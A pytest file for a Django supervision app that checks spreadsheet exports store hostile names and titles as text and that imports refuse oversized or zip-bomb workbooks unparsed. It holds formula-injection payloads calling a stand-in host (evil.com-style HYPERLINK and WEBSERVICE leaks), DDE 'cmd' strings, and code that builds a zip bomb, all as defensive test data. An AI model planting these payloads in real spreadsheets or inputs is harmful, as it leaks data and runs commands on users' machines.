"""Spreadsheets as an attack surface (issue 18, points 2 and 7).

Writing: every workbook the project makes (the office's matter export, the register book, the
annual assessment table, the city comparison export) is built from names and titles people type.
A title such as ``=HYPERLINK("http://…"&B3,"点此查看")`` must reach the file as text, never as a
live formula: each export is made with hostile text and reopened with openpyxl, and its sheets'
XML is read for ``<f>`` elements.

Reading: an .xlsx is a zip of XML; a few kilobytes can declare a cell at XFD1048576 or inflate to
gigabytes. Such files are refused from the zip's directory and a streaming look at the sheet XML,
before openpyxl parses anything (a spy on openpyxl's reader proves it is never called), with a
Chinese message naming the limit, and nothing is imported.
"""

from __future__ import annotations

import ast
import io
import re
import struct
import tracemalloc
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django_tenants.utils import tenant_context
from matter_helpers import make_cast, proposed, to_state
from openpyxl.reader.excel import ExcelReader

from duban.core.imports import ImportErrorReport
from duban.reports import documents as report_documents
from duban.units.imports import import_units
from duban.units.models import Unit

pytestmark = pytest.mark.django_db

REPO = Path(__file__).resolve().parent.parent

# What a hostile county clerk, unit admin or city operator types where a name or title goes.
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&B3,"点此查看")'
HOSTILE_LEAD = "+cmd|' /C calc'!A0"
HOSTILE_CO = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_REQUIREMENTS = "-2+3+cmd|' /C calc'!A0"
HOSTILE_UNIT = '=HYPERLINK("http://evil.example/","九十九镇")'
HOSTILE_COUNTY = '=WEBSERVICE("http://evil.example/?"&A3)'
HOSTILE_CITY = "=1+1"
HOSTILE_ERROR_CODE = "#N/A"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- helpers -------------------------------------------------------------------------------------
def assert_text_not_formulas(data: bytes, hostile: list[str]) -> None:
    """The workbook holds no formula at all; every hostile text is in some cell as the very text
    typed (whole, or inside a composed line such as a title), stored as text; and a text cell
    that begins with a character a spreadsheet reads as a formula is marked as typed text."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{name} carries a formula element"
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert cell.data_type != "e", f"{sheet.title}!{cell.coordinate} is an error value: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(TRIGGERS):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} is not marked as text"
    for text in hostile:
        assert any(text in value for value in texts), f"{text!r} is not readable in the workbook"


@pytest.fixture
def cast(world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    with tenant_context(world.alpha):
        yield make_cast()


@pytest.fixture
def hostile_units(cast):
    """The test county's units renamed as a hostile admin would name them (rolled back)."""
    Unit.objects.filter(code="D01").update(name=HOSTILE_LEAD)
    Unit.objects.filter(code="T01").update(name=HOSTILE_CO)
    Unit.objects.filter(code="T99").update(name=HOSTILE_UNIT)


# --- point 2: no formula in anything we write -----------------------------------------------------
def test_matter_export_keeps_a_hostile_title_as_text(world, cast, hostile_units):
    from duban.matters.models import Matter

    running = to_state(cast, "in_progress")
    Matter.objects.filter(pk=running.pk).update(requirements=HOSTILE_REQUIREMENTS)
    proposed(cast, title=HOSTILE_TITLE)
    proposed(cast, title=HOSTILE_ERROR_CODE)
    client = Client()
    client.force_login(cast.staff)
    response = client.get("/matters/", {"export": "xlsx"}, HTTP_HOST=world.owner.host)
    assert response.status_code == 200
    assert_text_not_formulas(response.content, [HOSTILE_TITLE, HOSTILE_LEAD, HOSTILE_CO, HOSTILE_REQUIREMENTS,
                                                HOSTILE_ERROR_CODE])
    # Numbers and dates stay what they were: the export is still a spreadsheet to sort and sum.
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == running.number)
    assert row[9].is_date and row[9].value.date() == running.deadline
    assert row[11].data_type == "n" and row[11].value == 0


def test_a_title_with_a_control_character_is_exported_not_a_server_error(world, cast):
    """XML cannot carry most C0 control characters; openpyxl raises on them. A title pasted with
    one (a bell from an old system's text) still exports, without it."""
    proposed(cast, title="推进老旧\x07小区改造\x1b")
    client = Client()
    client.force_login(cast.staff)
    response = client.get("/matters/", {"export": "xlsx"}, HTTP_HOST=world.owner.host)
    assert response.status_code == 200
    titles = [row[1] for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(
        min_row=2, values_only=True)]
    assert "推进老旧小区改造" in titles


def test_register_book_keeps_hostile_names_as_text(world, cast, hostile_units, monkeypatch):
    from duban.matters.documents import register_book_xlsx

    monkeypatch.setattr(world.alpha, "name", HOSTILE_COUNTY)  # the county of the tenant context
    to_state(cast, "in_progress")
    proposed(cast, title=HOSTILE_TITLE)
    assert_text_not_formulas(register_book_xlsx(), [HOSTILE_TITLE, HOSTILE_LEAD, HOSTILE_CO, HOSTILE_COUNTY])


@pytest.mark.today("2026-11-27")
def test_annual_table_keeps_hostile_unit_names_as_text(world, cast, hostile_units):
    from duban.documents import service

    document = report_documents.annual_assessment_document(2026, actor=cast.leader)
    data = service.xlsx_bytes(document)
    assert_text_not_formulas(data, [HOSTILE_LEAD, HOSTILE_CO, HOSTILE_UNIT])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    scores = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[2] == HOSTILE_LEAD]
    assert scores and isinstance(scores[0][-1], (int, float))  # the scores are still numbers


@pytest.mark.today("2026-11-26")
def test_city_comparison_export_keeps_hostile_county_and_city_names_as_text(world, monkeypatch):
    from duban.comparison import service
    from tenants.models import County

    connection.set_schema_to_public()
    County.objects.filter(pk=world.alpha.pk).update(name=HOSTILE_COUNTY)
    city = world.alpha.city
    monkeypatch.setattr(city, "name", HOSTILE_CITY)
    data, _ = service.export_xlsx(city, "quarter", date(2026, 10, 1))
    assert_text_not_formulas(data, [HOSTILE_COUNTY, HOSTILE_CITY])


def test_only_the_spreadsheet_helper_makes_or_opens_an_openpyxl_workbook():
    """Every workbook goes through ``duban.core.spreadsheet``, which stores text as text: no other
    module of the product names openpyxl's ``Workbook`` or ``load_workbook``."""
    helper = REPO / "platform" / "duban" / "core" / "spreadsheet.py"
    assert helper.is_file()
    offenders = []
    for root in ("platform", "tenants", "api", "plugins"):
        for path in sorted((REPO / root).rglob("*.py")):
            if path == helper or "migrations" in path.parts:
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                names = []
                if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.Attribute):
                    names = [node.attr]
                if any(name in ("Workbook", "load_workbook", "WriteOnlyWorkbook") for name in names):
                    offenders.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert offenders == []


# --- point 7: refuse before parsing ---------------------------------------------------------------
UNIT_HEADER = ["单位编码", "单位名称", "类型", "联系人", "联系电话"]


@pytest.fixture
def alpha(world):
    with tenant_context(world.alpha):
        yield world.alpha


@pytest.fixture
def openpyxl_reads(monkeypatch):
    """Every time openpyxl's reader is asked to parse a workbook; it refuses to, so a test can
    never make this machine parse a hostile file."""
    calls = []

    def spy(self, *args, **kwargs):
        calls.append(self)
        raise RuntimeError("openpyxl was asked to parse a workbook that should have been refused")

    monkeypatch.setattr(ExcelReader, "read", spy)
    return calls


def small_workbook(rows=(UNIT_HEADER, ["T02", "二号镇", "乡镇", "", ""]), *, far_cell: str | None = None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    if far_cell:
        ws[far_cell] = "x"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def replace_entry(data: bytes, name: str, content: bytes, *, extra: dict[str, bytes] | None = None) -> bytes:
    """The same .xlsx with one entry's content replaced (and extra entries added)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == name else source.read(info.filename))
        for extra_name, extra_content in (extra or {}).items():
            target.writestr(extra_name, extra_content)
    return out.getvalue()


def refused(path, calls) -> str:
    """Import the file: refused as a whole, with openpyxl never parsing it and little memory used."""
    before = Unit.objects.count()
    tracemalloc.start()
    try:
        with pytest.raises(ImportErrorReport) as excinfo:
            import_units(path, actor="cli")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert calls == [], "openpyxl parsed a file that should have been refused unread"
    assert peak < 20 * 1024 * 1024, f"refusing the file took {peak / 1e6:.0f} MB"
    assert Unit.objects.count() == before
    assert "没有导入任何内容" in str(excinfo.value)
    assert excinfo.value.errors[0].row is None  # the file as a whole
    return excinfo.value.format()


def test_one_cell_at_xfd1048576_is_refused_from_the_sheet_dimension(alpha, tmp_path, openpyxl_reads):
    data = small_workbook(far_cell="XFD1048576")
    assert len(data) < 10_000
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b'<dimension ref="A1:XFD1048576"' in archive.read("xl/worksheets/sheet1.xml")
    path = tmp_path / "units.xlsx"
    path.write_bytes(data)
    message = refused(path, openpyxl_reads)
    assert "10000" in message and "50" in message and "行" in message and "列" in message, message


def test_a_far_cell_behind_a_lying_dimension_is_refused_unparsed(alpha, tmp_path, openpyxl_reads):
    data = small_workbook(far_cell="XFD1048576")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    for liar in (xml.replace(b'<dimension ref="A1:XFD1048576"/>', b'<dimension ref="A1:E2"/>'),
                 xml.replace(b'<dimension ref="A1:XFD1048576"/>', b"")):
        assert liar != xml
        path = tmp_path / "units.xlsx"
        path.write_bytes(replace_entry(data, "xl/worksheets/sheet1.xml", liar))
        message = refused(path, openpyxl_reads)
        assert "10000" in message, message


def test_too_many_columns_are_refused_unparsed(alpha, tmp_path, openpyxl_reads):
    path = tmp_path / "units.xlsx"
    path.write_bytes(small_workbook(far_cell="AZ2"))  # column 52
    message = refused(path, openpyxl_reads)
    assert "50" in message and "列" in message, message


def test_too_many_rows_without_a_dimension_are_refused_unparsed(alpha, tmp_path, openpyxl_reads):
    data = small_workbook()
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>T{n}</t></is></c></row>' for n in range(1, 10_050))
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>').encode()
    path = tmp_path / "units.xlsx"
    path.write_bytes(replace_entry(data, "xl/worksheets/sheet1.xml", sheet))
    message = refused(path, openpyxl_reads)
    assert "10000" in message and "行" in message, message


def test_a_zip_bomb_entry_is_refused_unparsed(alpha, tmp_path, openpyxl_reads):
    data = small_workbook()
    padding = b"<!--" + b" " * (30 * 1024 * 1024) + b"-->"  # 30 MB of nothing, ~30 KB deflated
    bomb = replace_entry(data, "docProps/app.xml", b'<?xml version="1.0"?>' + padding + b"<Properties/>")
    assert len(bomb) < 200_000
    path = tmp_path / "units.xlsx"
    path.write_bytes(bomb)
    message = refused(path, openpyxl_reads)
    assert "docProps/app.xml" in message and "压缩" in message, message


def test_an_entry_declaring_gigabytes_is_refused_unparsed(alpha, tmp_path, openpyxl_reads):
    data = bytearray(small_workbook())
    # Set the declared uncompressed size of xl/worksheets/sheet1.xml in the central directory to 3 GB.
    name = b"xl/worksheets/sheet1.xml"
    at = data.index(b"PK\x01\x02")
    while bytes(data[at + 46:at + 46 + struct.unpack_from("<H", data, at + 28)[0]]) != name:
        at = data.index(b"PK\x01\x02", at + 4)
    struct.pack_into("<I", data, at + 24, 3 * 1024 ** 3)
    path = tmp_path / "units.xlsx"
    path.write_bytes(bytes(data))
    message = refused(path, openpyxl_reads)
    assert "xl/worksheets/sheet1.xml" in message, message


def test_a_workbook_of_thousands_of_entries_is_refused_unparsed(alpha, tmp_path, openpyxl_reads):
    data = replace_entry(small_workbook(), "", b"", extra={f"xl/media/pad{n}.bin": b"" for n in range(1200)})
    path = tmp_path / "units.xlsx"
    path.write_bytes(data)
    message = refused(path, openpyxl_reads)
    assert "1000" in message, message


def test_the_cli_says_why_in_chinese_and_imports_nothing(alpha, tmp_path, openpyxl_reads):
    path = tmp_path / "units.xlsx"
    path.write_bytes(small_workbook(far_cell="XFD1048576"))
    before = Unit.objects.count()
    connection.set_schema_to_public()
    with pytest.raises(CommandError) as excinfo:
        call_command("unit", "import", "--county", "alpha", str(path), "--no-progress")
    assert "10000" in str(excinfo.value) and "没有导入任何内容" in str(excinfo.value)
    assert openpyxl_reads == []
    with tenant_context(alpha):
        assert Unit.objects.count() == before


def test_a_well_formed_workbook_still_imports_through_the_streaming_reader(alpha, tmp_path):
    path = tmp_path / "units.xlsx"
    path.write_bytes(small_workbook([["单位导入"], UNIT_HEADER, ["T02", "二号镇", "乡镇", "王五", 13800000000],
                                     [], ["D02", "二号局", "部门", "", ""]]))
    result = import_units(path, actor="cli")
    assert result.created == 2
    assert Unit.objects.get(code="T02").contact_phone == "13800000000"
    assert Unit.objects.get(code="D02").name == "二号局"
